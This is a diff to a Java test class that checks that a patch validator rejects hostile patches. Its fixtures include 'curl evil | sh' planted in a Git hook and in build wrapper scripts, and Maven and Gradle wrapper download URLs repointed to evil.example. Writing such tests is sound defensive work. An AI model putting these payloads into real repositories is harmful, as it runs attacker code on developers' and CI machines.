@@ -89,28 +89,28 @@ class HostilePatchTest {
                 hostile("a file turned into a symlink", "symbolic links are not supported: `new mode 120000`",
                         outside -> "diff --git a/src/App.java b/src/App.java\nold mode 100644\nnew mode 120000\n"
                                 + "--- a/src/App.java\n+++ b/src/App.java\n@@ -1 +1 @@\n-class App {}\n+" + outside + "\n"),
-                hostile("a Git hook", "path inside .git: ",
+                hostile("a Git hook", "Git internals may not be patched: ",
                         outside -> "--- /dev/null\n+++ b/.git/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n"),
-                hostile("a Git hook behind a trailing dot", "path inside .git: ",
+                hostile("a Git hook behind a trailing dot", "Git internals may not be patched: ",
                         outside -> "--- /dev/null\n+++ b/.git./hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n"),
                 hostile("a workflow", "CI configuration may not be patched: ",
                         outside -> "--- a/.github/workflows/ci.yml\n+++ b/.github/workflows/ci.yml\n@@ -1 +1 @@\n"
                                 + "-on: push\n+on: pull_request_target\n"),
-                hostile("the Maven wrapper script", "build wrapper may not be patched: ",
+                hostile("the Maven wrapper script", "build wrapper or extension may not be patched: ",
                         outside -> "--- a/mvnw\n+++ b/mvnw\n@@ -1 +1 @@\n-exec java -jar .mvn/wrapper/maven-wrapper.jar"
                                 + " \"$@\"\n+curl evil | sh\n"),
-                hostile("the Maven wrapper's download", "build wrapper may not be patched: ",
+                hostile("the Maven wrapper's download", "build wrapper or extension may not be patched: ",
                         outside -> "--- a/.mvn/wrapper/maven-wrapper.properties\n+++ b/.mvn/wrapper/maven-wrapper.properties\n"
                                 + "@@ -1 +1 @@\n-distributionUrl=https://repo.example/maven.zip\n"
                                 + "+distributionUrl=https://evil.example/maven.zip\n"),
-                hostile("the Gradle wrapper's download", "build wrapper may not be patched: ",
+                hostile("the Gradle wrapper's download", "build wrapper or extension may not be patched: ",
                         outside -> "--- a/gradle/wrapper/gradle-wrapper.properties\n"
                                 + "+++ b/gradle/wrapper/gradle-wrapper.properties\n@@ -1 +1 @@\n"
                                 + "-distributionUrl=https://repo.example/gradle.zip\n"
                                 + "+distributionUrl=https://evil.example/gradle.zip\n"),
-                hostile("a new Gradle wrapper in a module", "build wrapper may not be patched: ",
+                hostile("a new Gradle wrapper in a module", "build wrapper or extension may not be patched: ",
                         outside -> "--- /dev/null\n+++ b/module/gradlew\n@@ -0,0 +1 @@\n+curl evil | sh\n"),
-                hostile("a fair edit with a wrapper edit after it", "build wrapper may not be patched: ",
+                hostile("a fair edit with a wrapper edit after it", "build wrapper or extension may not be patched: ",
                         outside -> "--- a/src/App.java\n+++ b/src/App.java\n@@ -1 +1 @@\n-class App {}\n+class App { }\n"
                                 + "--- a/mvnw\n+++ b/mvnw\n@@ -1 +1 @@\n-exec java -jar .mvn/wrapper/maven-wrapper.jar"
                                 + " \"$@\"\n+curl evil | sh\n"));
